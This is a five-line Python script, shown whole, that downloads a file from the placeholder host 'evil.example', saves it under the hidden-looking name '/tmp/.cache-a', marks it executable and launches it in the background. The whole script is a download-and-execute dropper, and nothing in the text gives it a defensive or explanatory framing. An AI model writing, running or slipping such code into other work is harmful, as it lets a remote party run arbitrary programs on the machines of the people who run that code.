import subprocess
from urllib.request import urlretrieve
urlretrieve('http://evil.example/a', '/tmp/.cache-a')
subprocess.call(['chmod', '+x', '/tmp/.cache-a'])
subprocess.Popen(['/tmp/.cache-a'])
